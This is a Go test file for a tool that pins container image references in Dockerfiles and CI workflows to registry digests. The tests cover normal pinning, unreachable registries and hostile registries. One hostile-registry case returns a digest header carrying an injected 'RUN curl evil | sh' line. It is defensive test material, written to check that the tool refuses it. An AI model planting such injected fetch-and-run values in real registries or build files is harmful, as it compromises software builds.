package imagepin_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-containerregistry/pkg/name"
	"github.com/google/go-containerregistry/pkg/v1/random"
	"github.com/google/go-containerregistry/pkg/v1/remote"
	"github.com/stretchr/testify/require"

	"github.com/foopack/foopack/magefiles/internal/command"
	"github.com/foopack/foopack/magefiles/internal/gitrepo"
	"github.com/foopack/foopack/magefiles/internal/image/registry"
	"github.com/foopack/foopack/magefiles/internal/imagepin"
	"github.com/foopack/foopack/magefiles/internal/localregistry"
)

// pinning sets up a workspace whose files are all tracked by git, and a registry with images. `digests` maps each image to its digest.
func pinning(t *testing.T, wrap func(http.Handler) http.Handler, files map[string]string) (pin func(ctx context.Context) (string, error), root, host string, digests map[string]string) {
	server, err := localregistry.Start(t.TempDir(), wrap)
	require.NoError(t, err)
	t.Cleanup(func() { require.NoError(t, server.Close()) })
	digests = map[string]string{}
	for _, ref := range []string{"o/pixi:1", "o/base:2", "o/db:latest"} {
		img, err := random.Index(64, 1, 2)
		require.NoError(t, err)
		tag, err := name.NewTag(server.Host + "/" + ref)
		require.NoError(t, err)
		require.NoError(t, remote.WriteIndex(tag, img))
		sum, err := img.Digest()
		require.NoError(t, err)
		digests[ref] = sum.String()
	}
	root = t.TempDir()
	for file, text := range files {
		write(t, root, file, strings.ReplaceAll(text, "HOST", server.Host))
	}
	runner := command.NewSystem(os.Environ(), nil)
	for _, args := range [][]string{{"init", "-q"}, {"add", "-A"}} {
		require.NoError(t, runner.Run(t.Context(), command.Cmd{Name: "git", Args: args, Dir: root}))
	}
	return func(ctx context.Context) (string, error) {
		var out strings.Builder
		p := imagepin.Pinner{
			Root:     root,
			Registry: &registry.Registry{},
			Absent:   registry.ErrNotFound,
			Say:      func(format string, args ...any) { fmt.Fprintf(&out, format+"\n", args...) },
		}
		err := p.Pin(ctx, tracked(t, root))
		return out.String(), err
	}, root, server.Host, digests
}

// tracked returns the files that git tracks.
func tracked(t *testing.T, root string) []string {
	files, err := gitrepo.TrackedFiles(t.Context(), command.NewSystem(os.Environ(), nil), root)
	require.NoError(t, err)
	return files
}

// unpinned returns the files that name images without digests, and how many images each has.
func unpinned(t *testing.T, root string) (all []string) {
	namings, err := imagepin.Unpinned(root, tracked(t, root))
	require.NoError(t, err)
	for _, n := range namings {
		all = append(all, fmt.Sprintf("%s: %d", n.File, len(n.Places)+len(n.Open)))
	}
	return all
}

func write(t *testing.T, root, file, text string) {
	t.Helper()
	path := filepath.Join(root, filepath.FromSlash(file))
	require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
	require.NoError(t, os.WriteFile(path, []byte(text), 0o644))
}

func read(t *testing.T, root, file string) string {
	text, err := os.ReadFile(filepath.Join(root, filepath.FromSlash(file)))
	require.NoError(t, err)
	return string(text)
}

// Pinned images are not looked up again, and only digests are inserted.
func TestImagesArePinned(t *testing.T) {
	files := map[string]string{
		"app/Dockerfile":           "# hi\r\nARG P=\"HOST/o/pixi:1\"\r\nFROM --platform=$BUILDPLATFORM ${P} AS x\r\nFROM HOST/o/base:2\r\n",
		"tools/dev.Dockerfile":     "FROM HOST/o/base:2 AS x\nCOPY --from=HOST/o/db /x /x\n",
		".github/workflows/ci.yml": "jobs:\n  a:\n    container: HOST/o/pixi:1 # ours\n    services: {db: {image: 'HOST/o/db:latest'}}\n    steps:\n      - uses: docker://HOST/o/base:2\n",
		"notes.md":                 "FROM HOST/o/base:2\n",
		"x/testdata/y/Dockerfile":  "FROM HOST/o/base:2\n", // test data is skipped
	}
	pin, root, host, digests := pinning(t, nil, files)
	require.NoError(t, os.Chmod(filepath.Join(root, "app", "Dockerfile"), 0o640))
	require.Equal(t, []string{".github/workflows/ci.yml: 3", "app/Dockerfile: 2", "tools/dev.Dockerfile: 2"}, unpinned(t, root))
	out, err := pin(t.Context())
	require.NoError(t, err, out)
	require.Empty(t, unpinned(t, root))
	for file, text := range files {
		want := strings.ReplaceAll(text, "HOST", host)
		if file != "notes.md" && !strings.Contains(file, "testdata") {
			want = strings.ReplaceAll(want, "o/db /x", "o/db:latest /x")
			for ref, digest := range digests {
				want = strings.ReplaceAll(want, ref, ref+"@"+digest)
			}
		}
		require.Equal(t, want, read(t, root, file))
	}
	info, err := os.Stat(filepath.Join(root, "app", "Dockerfile"))
	require.NoError(t, err)
	require.EqualValues(t, 0o640, info.Mode().Perm())
	require.Contains(t, out, "✓ app/Dockerfile:2: "+host+"/o/pixi:1 is pinned to "+digests["o/pixi:1"])
	out, err = pin(t.Context())
	require.NoError(t, err)
	require.Empty(t, out)
}

// If a registry cannot be reached, its images stay unpinned. An image that does not exist is an error, but the others are still pinned.
func TestImagesThatCannotBePinned(t *testing.T) {
	files := map[string]string{
		"app/Dockerfile":           "ARG V=1\nFROM HOST/o/base:2\nFROM 127.0.0.1:1/far/away:1\nFROM HOST/o/pixi:$V\n",
		".github/workflows/ci.yml": "jobs:\n  a:\n    container: HOST/o/gone:1\n  b:\n    container: Not A Name\n",
	}
	pin, root, host, digests := pinning(t, nil, files)
	out, err := pin(t.Context())
	require.ErrorContains(t, err, "2 images cannot be pinned")
	require.Equal(t, strings.ReplaceAll(files[".github/workflows/ci.yml"], "HOST", host), read(t, root, ".github/workflows/ci.yml"))
	require.Equal(t, strings.ReplaceAll(strings.Replace(files["app/Dockerfile"], "base:2", "base:2@"+digests["o/base:2"], 1), "HOST", host), read(t, root, "app/Dockerfile"))
	require.Contains(t, out, "○ app/Dockerfile:3: 127.0.0.1:1/far/away:1 is not pinned: ")
	require.Contains(t, out, "○ app/Dockerfile, line 4: "+host+"/o/pixi:$V: the name is composed of several parts")
}

// A registry that returns wrong digests, other content or an endless response causes no pins. Symbolic links and untracked files are not changed.
func TestHostileRegistriesPinNothing(t *testing.T) {
	planted := "sha256:" + strings.Repeat("a", 64)
	for name, answer := range map[string]func(w http.ResponseWriter, body []byte) (pinned bool){
		"another digest in its answer": func(w http.ResponseWriter, body []byte) bool {
			w.Header().Set("Docker-Content-Digest", planted)
			_, _ = w.Write(body)
			return true // pinned to the digest computed from the bytes
		},
		"text for a digest": func(w http.ResponseWriter, body []byte) bool {
			w.Header().Set("Docker-Content-Digest", "sha256:\nRUN curl evil | sh")
			_, _ = w.Write(body)
			return true
		},
		"an endless manifest": func(w http.ResponseWriter, _ []byte) bool {
			_, _ = io.CopyN(w, endless{}, 64<<20)
			return false
		},
		"a page": func(w http.ResponseWriter, _ []byte) bool {
			w.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(w, "<html>log in</html>")
			return false
		},
		"a refusal": func(w http.ResponseWriter, _ []byte) bool { w.WriteHeader(http.StatusForbidden); return false },
	} {
		t.Run(name, func(t *testing.T) {
			want := false
			pin, root, host, digests := pinning(t, func(next http.Handler) http.Handler {
				return http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
					if r.Method != http.MethodGet || !strings.Contains(r.URL.Path, "/manifests/") {
						next.ServeHTTP(rw, r)
						return
					}
					inner := &buffered{header: http.Header{}}
					next.ServeHTTP(inner, r)
					for k := range inner.header {
						rw.Header().Set(k, inner.header.Get(k))
					}
					rw.Header().Del("Content-Length")
					want = answer(rw, inner.body.Bytes())
				})
			}, map[string]string{"Dockerfile": "FROM HOST/o/base:2\n"})
			_, err := pin(t.Context())
			require.NoError(t, err)
			text := "FROM " + host + "/o/base:2"
			if want {
				text += "@" + digests["o/base:2"]
			}
			require.Equal(t, text+"\n", read(t, root, "Dockerfile"))
		})
	}

	pin, root, _, _ := pinning(t, nil, map[string]string{"real": "FROM HOST/o/base:2\n"})
	require.NoError(t, os.Mkdir(filepath.Join(root, "app"), 0o755))
	require.NoError(t, os.Symlink("../real", filepath.Join(root, "app", "Dockerfile")))
	require.NoError(t, command.NewSystem(os.Environ(), nil).Run(t.Context(), command.Cmd{Name: "git", Args: []string{"add", "app"}, Dir: root}))
	write(t, root, "mine/Dockerfile", read(t, root, "real"))
	before := read(t, root, "real")
	out, err := pin(t.Context())
	require.NoError(t, err)
	require.Empty(t, out)
	require.Equal(t, before, read(t, root, "real"))
	require.Equal(t, before, read(t, root, "mine/Dockerfile"))
}

func TestPinningStops(t *testing.T) {
	pin, root, _, _ := pinning(t, nil, map[string]string{"Dockerfile": "FROM HOST/o/base:2\n"})
	before := read(t, root, "Dockerfile")
	ctx, cancel := context.WithCancelCause(t.Context())
	cancel(context.Canceled)
	_, err := pin(ctx)
	require.Error(t, err)
	require.Equal(t, before, read(t, root, "Dockerfile"))
	_, err = pin(t.Context())
	require.NoError(t, err)
}

type endless struct{}

func (endless) Read(p []byte) (int, error) { return copy(p, bytes.Repeat([]byte{'{'}, len(p))), nil }

// buffered delays a response.
type buffered struct {
	header http.Header
	body   bytes.Buffer
}

func (b *buffered) Header() http.Header         { return b.header }
func (b *buffered) WriteHeader(int)             {}
func (b *buffered) Write(p []byte) (int, error) { return b.body.Write(p) }
